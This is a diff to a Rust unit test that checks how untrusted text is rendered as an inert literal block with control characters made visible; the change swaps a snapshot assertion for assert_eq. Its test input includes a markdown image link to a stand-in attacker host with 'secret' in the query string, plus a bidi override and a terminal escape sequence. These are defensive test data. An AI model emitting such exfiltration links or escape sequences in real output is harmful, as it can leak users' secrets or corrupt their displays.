@@ -1048,13 +1048,10 @@ mod tests {
     // Verifies: ACP-7
     #[test]
     fn untrusted_text_is_drawn_as_a_literal_block_with_controls_pictured() {
-        expect_test::expect![[r#"
-                ![x](https://evil.example/?q=secret)
-                <U+202E>txt␛[2J
-            "#]]
-        .assert_eq(&literal_block(
-            "![x](https://evil.example/?q=secret)\n\u{202e}txt\u{1b}[2J",
-        ));
+        assert_eq!(
+            literal_block("![x](https://evil.example/?q=secret)\n\u{202e}txt\u{1b}[2J"),
+            "    ![x](https://evil.example/?q=secret)\n    <U+202E>txt\u{241b}[2J\n"
+        );
     }
 
     // Verifies: ACP-2
